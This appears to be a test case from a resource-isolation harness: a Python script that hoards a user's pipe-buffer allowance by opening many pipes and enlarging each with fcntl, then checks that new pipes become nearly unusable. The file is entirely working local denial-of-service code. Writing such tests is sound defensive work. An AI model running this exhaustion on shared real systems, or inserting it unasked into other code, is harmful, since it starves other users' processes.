# Takes all the room for pipes that a user may have, after which new pipes hold next to nothing.
# kind: hoard
# control: inside
import fcntl
import os

from attack import KEPT, hoard

GET_SIZE, SET_SIZE = 1032, 1031


def hold():
    # Up to the soft limit of 64 MiB for each user; a pipe costs no memory before something is in it.
    large = True
    for _ in range(400):
        ends = os.pipe()
        KEPT.append(ends)
        if fcntl.fcntl(ends[0], GET_SIZE) < 65536:
            break
        try:
            large = large and fcntl.fcntl(ends[0], SET_SIZE, 1 << 20) > 0
        except OSError:
            large = False
    return len(KEPT)


def use():
    size = fcntl.fcntl(os.pipe()[0], GET_SIZE)
    if size < 65536:
        raise OSError(0, "a new pipe holds %d bytes" % size)


hoard(hold, use)
